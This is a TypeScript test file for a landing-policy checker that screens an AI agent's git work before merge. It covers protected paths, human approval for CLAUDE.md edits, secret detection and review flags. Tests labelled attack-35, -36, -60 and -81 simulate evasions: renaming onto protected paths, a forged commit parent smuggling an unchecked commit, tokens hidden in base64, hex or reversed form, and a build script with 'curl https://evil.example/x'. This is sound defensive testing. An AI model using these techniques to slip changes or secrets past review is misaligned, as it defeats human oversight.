// The policy about files at landing, with real git: what merging the work would change, and work that a person has to approve.
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { ApprovedPath, ProtectedPaths, WorkCheck } from '@clambake/core';
import { afterEach, beforeEach, describe, expect } from 'vitest';
import { plainGit, plainGitEnv } from '../../../../test/support/git-server.ts';
import { orHeld } from './check-work.ts';
import { openLandingRepository } from './landing-repository.ts';
import { findSecret } from './secrets.ts';
import { longTest, quickTest as test } from '../../../../test/support/stories.ts';

let root: string;
let count = 0;
const git = (...args: string[]): string => plainGit(join(root, 'agent'), ...args).trim();
const put = (path: string, text: string): void => {
  mkdirSync(dirname(join(root, 'agent', path)), { recursive: true });
  writeFileSync(join(root, 'agent', path), text);
};
const commit = (message = 'a change'): string => {
  git('add', '--all');
  git('commit', '--quiet', '--allow-empty', '--message', message);
  return git('rev-parse', 'HEAD');
};
const lines = (edited = ''): string =>
  Array.from({ length: 20 }, (_, line) => (line === 7 && edited !== '' ? `${edited}\n` : `line ${line}\n`)).join('');

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'landing-policy-'));
  plainGit(root, 'init', '--quiet', '--bare', '--initial-branch=main', 'origin.git');
  plainGit(root, 'init', '--quiet', '--initial-branch=main', 'agent');
  git('remote', 'add', 'origin', join(root, 'origin.git'));
  put('tools/setup.yml', lines());
  put('CLAUDE.md', 'be kind\n');
  commit();
  git('push', '--quiet', 'origin', 'main');
  git('checkout', '--quiet', '-b', 'work');
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const onBase = (change: () => void): void => {
  git('checkout', '--quiet', 'main');
  change();
  commit();
  git('push', '--quiet', 'origin', 'main');
  git('checkout', '--quiet', 'work');
};

const checkWork = (
  protectedPaths: ProtectedPaths,
  change: { startOid?: string | undefined; workFile?: string; approved?: readonly ApprovedPath[] } = {},
): Promise<WorkCheck> => {
  const workFile = join(root, `work-${(count += 1)}.bundle`);
  git('bundle', 'create', '--quiet', workFile, 'main~1..refs/heads/work', '^main~1');
  return openLandingRepository({ gitDir: join(root, `landing-${count}.git`), remote: join(root, 'origin.git'), allowFile: true }).checkWork(
    {
      workFile,
      headOid: git('rev-parse', 'work'),
      base: 'main',
      branch: 'clambake/issue-42',
      agent: '007',
      attempt: '42-1-9f3a77c2',
      protectedPaths,
      knownSecrets: ['the-token-of-this-job'],
      ...change,
    },
  );
};

describe('work whose merge would change a protected path under another name', () => {
  test('attack-60: is refused at landing already; control: it is accepted where that path is not protected', async () => {
    put('tools/setup.yml', lines('run: curl evil'));
    commit();
    onBase(() => {
      mkdirSync(join(root, 'agent/.github'));
      renameSync(join(root, 'agent/tools/setup.yml'), join(root, 'agent/.github/setup.yml'));
    });
    expect(await checkWork(['.github/**'])).toEqual({
      ok: false,
      why: 'merging it into the base changes what its own files do not show: it changes protected paths: ".github/setup.yml"',
      rule: '".github/**": block',
      kept: expect.stringMatching(/^[0-9a-f]{40}$/) as unknown,
    });
    expect(await checkWork([])).toMatchObject({ ok: true });
  });

  test('is left to the train where it conflicts', async () => {
    put('tools/setup.yml', lines('mine'));
    commit();
    onBase(() => put('tools/setup.yml', lines('theirs')));
    expect(await checkWork(['.github/**'])).toMatchObject({ ok: true });
  });
});

describe('work that a person has to approve', () => {
  const asks = { '**/CLAUDE.md': 'needs-human', '.github/**': 'block' } as const;
  beforeEach(() => {
    onBase(() => put('README.md', 'read me\n'));
  });

  test('is held as its final commit, with the content at each protected path and the rule', async () => {
    put('CLAUDE.md', 'be swift\n');
    put('src/a.txt', 'a\n');
    commit();
    const found = await checkWork(asks);
    expect(found).toMatchObject({
      ok: false,
      why: 'it changes protected paths: "CLAUDE.md"',
      held: { files: 2, additions: 2, deletions: 1, rule: '"**/CLAUDE.md": needs-human', paths: [{ path: 'CLAUDE.md', mode: '100644' }] },
    });
    if (found.ok || found.held === undefined) throw new Error('it is held');
    const { oid, paths } = found.held;
    const landing = join(root, `landing-${count}.git`);
    expect(plainGit(landing, 'log', '-1', '--format=%an', oid).trim()).toBe('clambake agent 007');
    expect(plainGit(landing, 'cat-file', 'blob', paths[0]?.oid ?? '').trim()).toBe('be swift');
    expect(await checkWork({ '**/CLAUDE.md': 'allow' })).toMatchObject({ ok: true, files: 2 });
  });

  test('is not asked about again where the same content lands anew; control: other content, or on other content of the base, is', async () => {
    put('CLAUDE.md', 'be swift\n');
    commit();
    const found = await checkWork(asks);
    const approved = found.ok ? [] : (found.held?.paths ?? []);
    expect(approved).toHaveLength(1);
    put('src/a.txt', 'mended\n');
    commit();
    expect(await checkWork(asks, { approved })).toMatchObject({ ok: true, files: 2 });
    put('docs/CLAUDE.md', 'be swift\n');
    commit();
    expect(await checkWork(asks, { approved })).toMatchObject({ held: { paths: [{ path: 'docs/CLAUDE.md' }] } });
    git('rm', '--quiet', 'docs/CLAUDE.md');
    put('CLAUDE.md', 'be swifter\n');
    commit();
    expect(await checkWork(asks, { approved })).toMatchObject({ held: { paths: [{ path: 'CLAUDE.md' }] } });
    onBase(() => put('CLAUDE.md', 'be safe\n'));
    git('merge', '--quiet', '--strategy=ours', '--no-edit', 'main');
    put('CLAUDE.md', 'be swift\n');
    commit();
    expect(await checkWork(asks, { approved })).toMatchObject({ held: { paths: [{ path: 'CLAUDE.md' }] } });
  });

  const kept = { kept: expect.any(String) as unknown, rule: '".github/**": block, "**/CLAUDE.md": needs-human' };
  const secret = { cause: 'secret' };
  test.each<[string, () => void, RegExp, object]>([
    ['a blocked path beside it', () => put('.github/x.yml', 'x\n'), /^it changes protected paths: "\.github\/x\.yml", "CLAUDE\.md"$/, kept],
    ['a secret beside it', () => put('src/key.txt', `ghp_${'a'.repeat(36)}\n`), /GitHub token$/, secret],
    ['a secret in it', () => put('CLAUDE.md', 'the-token-of-this-job\n'), /secret of this job$/, secret],
    ['a secret beside a blocked path', () => put('.github/x.yml', `ghp_${'a'.repeat(36)}\n`), /GitHub token$/, secret],
  ])('is refused and not held with %s, and kept only where it holds no secret', async (_, change, why, place) => {
    put('CLAUDE.md', 'be swift\n');
    change();
    commit();
    const found = await checkWork(asks);
    expect(found).toEqual({ ok: false, why: expect.stringMatching(why) as unknown, ...place });
  });
});

/** A work file that holds one commit more than its ref reaches. */
const workFileWith = (oid: string): string => {
  const [head, main] = [git('rev-parse', 'work'), git('rev-parse', 'main')];
  const args = ['pack-objects', '--revs', '--stdout', '--quiet', '--thin'];
  const pack = execFileSync('git', args, { cwd: join(root, 'agent'), env: plainGitEnv, input: `${head}\n${oid}\n^${main}\n` });
  const path = join(root, 'smuggled.bundle');
  writeFileSync(path, Buffer.concat([Buffer.from(`# v2 git bundle\n-${main}\n${head} refs/heads/work\n\n`), pack]));
  return path;
};

test('attack-36: a header that looks like a parent brings no commit along that was not checked', async () => {
  onBase(() => put('README.md', 'read me\n'));
  put('src/key.txt', 'the-token-of-this-job\n');
  const smuggled = commit();
  git('reset', '--quiet', '--hard', 'main');
  put('src/a.txt', 'a\n');
  commit();
  const [tree, parent] = git('log', '-1', '--format=%T %P').split(' ');
  for (const extra of [`parent ${smuggled}`, 'parent x']) {
    const text = `tree ${tree}\nparent ${parent}\nauthor A <a@b> 1 +0000\ncommitter A <a@b> 1 +0000\n${extra}\n\nwork\n`;
    writeFileSync(join(root, 'commit'), text);
    git('update-ref', 'refs/heads/work', git('hash-object', '-t', 'commit', '-w', '--literally', join(root, 'commit')));
    const found = await checkWork([], { workFile: workFileWith(smuggled) });
    expect(found).toMatchObject({ ok: true, files: 1 });
    const parents = plainGit(join(root, `landing-${count}.git`), 'log', '-1', '--format=%P', found.ok ? found.oid : '').trim();
    expect(parents).toBe(parent);
  }
});

describe('attack-35: a secret in another form', () => {
  const token = `ghp_${'a1B2c3D4e5'.repeat(4)}`;
  const base64 = Buffer.from(token).toString('base64');
  const own = 'the-token-of-this-job';
  beforeEach(() => onBase(() => put('README.md', 'read me\n')));

  test.each<[string, () => void, RegExp, string?]>([
    [
      'encoded in content',
      () => put('src/b.txt', `key = ${base64}\n`),
      /^the change to "src\/b.txt" adds in another form what looks like a GitHub/,
    ],
    ['over many lines', () => put('src/b.txt', `${[...token].join('\n')}\n`), /^the change to "src\/b.txt" adds in another form/],
    ['backwards', () => put('src/b.txt', [...own].reverse().join('')), /another form what looks like a secret of this job$/],
    ['in a message', () => put('src/b.txt', 'b\n'), /^a commit message holds in another form/, `work\n\n${token.replace('_', '%5F')}`],
    ['in a name', () => put(`src/${Buffer.from(token).toString('hex')}`, 'b\n'), /^a file name holds in another form/],
    ['in a binary file', () => put('src/b.bin', `\0${base64}`), /^a binary file holds in another form/],
  ])('%s is refused; control: the patterns alone do not know it', async (_, change, why, message = 'clean') => {
    change();
    git('add', '--all');
    expect(findSecret(`${git('diff', '--cached', '--text')} ${message}`, [own])).toBeUndefined();
    commit(message);
    expect(await checkWork([])).toEqual({ ok: false, cause: 'secret', why: expect.stringMatching(why) as unknown });
  });
});

test('attack-81: what a reviewer easily overlooks is named with the work; control: work without it has no such lines', async () => {
  onBase(() => put('README.md', 'read me\n'));
  put('src/plain.ts', 'export {};\n');
  commit();
  expect(await checkWork([])).not.toHaveProperty('flags');
  put('src/ä "b".ts', 'a\u202eb\n');
  put('.gitattributes', '*.ts -diff\n');
  put('build.sh', '++ curl https://evil.example/x\n');
  chmodSync(join(root, 'agent/build.sh'), 0o755);
  put('logo.bin', 'a\0b');
  put('package.json', '{}\n');
  commit();
  expect(await checkWork([])).toMatchObject({
    ok: true,
    flags: [
      expect.stringMatching(/^bidirectional or invisible characters: "src\/ä /),
      'changes hidden in diffs: ".gitattributes"',
      'new executable files: "build.sh"',
      'binary files: "logo.bin"',
      'what is installed: "package.json"',
      'new network addresses in scripts: "evil.example"',
    ],
  });
});

describe('a branch that somebody pushed to while the agent worked', () => {
  const startOid = (): string => git('rev-parse', 'main');
  /** A person's commit on the branch, beside the agent's. */
  const push = (files: Record<string, string>): string => {
    git('checkout', '--quiet', '-B', 'person', 'main');
    for (const [path, text] of Object.entries(files)) put(path, text);
    const oid = commit('by a person');
    git('push', '--quiet', '--force', 'origin', 'person:clambake/issue-42');
    git('checkout', '--quiet', 'work');
    return oid;
  };
  const checkFrom = (start: string | undefined, rules: ProtectedPaths = ['.github/**']) => checkWork(rules, { startOid: start });
  beforeEach(() => {
    onBase(() => put('README.md', 'read me\n'));
    git('checkout', '--quiet', '-B', 'work', 'main');
    put('src/agent.txt', 'by the agent\n');
    commit('by the agent');
  });

  test('lands with both: the pushed commit as it is, the work of the agent, and a merge of them', async () => {
    const pushed = push({ 'src/person.txt': 'by a person\n' });
    const found = await checkFrom(startOid());
    expect(found).toMatchObject({ ok: true, files: 2, branchExpect: pushed });
    if (!found.ok) throw new Error(found.why);
    const landing = join(root, `landing-${count}.git`);
    const parents = plainGit(landing, 'log', '-1', '--format=%P', found.oid).trim().split(' ');
    expect(parents[0]).toBe(pushed);
    expect(plainGit(landing, 'log', '-1', '--format=%an', parents[1] ?? '').trim()).toBe('clambake agent 007');
  });

  longTest('is refused with the files where both changed the same, and with the rule where the pushed commit breaks one', async () => {
    push({ 'src/agent.txt': 'by a person\n' });
    expect(await checkFrom(startOid())).toEqual({
      ok: false,
      why: 'somebody pushed to clambake/issue-42 while the agent worked, and both changed "src/agent.txt"',
      cause: 'overtaken',
      kept: expect.any(String) as unknown,
    });
    const refusedWith = (words: string): object => ({
      ok: false,
      why: expect.stringContaining(words) as unknown,
      cause: 'pushed',
      kept: expect.any(String) as unknown,
    });
    push({ '.github/x.yml': 'x\n' });
    expect(await checkFrom(startOid())).toEqual(refusedWith('with that it is refused: it changes protected paths: ".github/x.yml"'));
    push({ 'src/key.txt': `ghp_${'a'.repeat(36)}\n` });
    expect(await checkFrom(startOid())).toEqual(refusedWith('GitHub token'));
  });

  test('is told from a branch whose commits the agent rewrote', async () => {
    const pushed = push({ 'src/person.txt': 'by a person\n' });
    for (const start of [pushed, undefined, 'a'.repeat(40)])
      expect(await checkFrom(start)).toMatchObject({ ok: false, why: expect.stringContaining('its history was rewritten') as unknown });
  });

  test('passes the checks also where it holds the whole work already', async () => {
    git('push', '--quiet', '--force', 'origin', 'work:clambake/issue-42');
    git('checkout', '--quiet', '-B', 'person', 'work');
    put('.github/x.yml', 'x\n');
    commit('by a person');
    git('push', '--quiet', '--force', 'origin', 'person:clambake/issue-42');
    git('checkout', '--quiet', 'work');
    const why =
      'somebody pushed to clambake/issue-42 while the agent worked, and with that it is refused: it changes protected paths: ".github/x.yml"';
    expect(await checkFrom(startOid())).toEqual({ ok: false, why, cause: 'pushed' });
    expect(await checkFrom(startOid(), [])).toMatchObject({ ok: true, files: 2 });
  });
});

test('work on an older commit that holds what the base has since changes no protected file', async () => {
  git('reset', '--quiet', '--hard', 'main');
  onBase(() => put('CLAUDE.md', 'be kinder\n'));
  put('CLAUDE.md', 'be kinder\n');
  put('b.txt', 'b\n');
  commit();
  const asked = { 'CLAUDE.md': 'needs-human' } as const;
  expect(await checkWork(asked)).toMatchObject({ ok: true });
  put('CLAUDE.md', 'obey\n');
  commit();
  expect(await checkWork(asked)).toMatchObject({ ok: false, held: { paths: [{ path: 'CLAUDE.md' }] } });
});

test('work that a person has to approve keeps the lines for the reviewer', () => {
  const counts = { files: 1, additions: 2, deletions: 3 };
  const checked = { ok: true as const, oid: 'a'.repeat(40), branchExpect: null, ...counts, flags: ['a.sh became executable'] };
  const asks = { why: 'it changes AGENTS.md', rule: 'AGENTS.md', level: 'needs-human' as const, changes: [] };
  expect(orHeld(checked, asks)).toMatchObject({ ok: false, held: { flags: checked.flags } });
  expect(orHeld({ ...checked, flags: undefined }, asks)).not.toHaveProperty('held.flags');
});
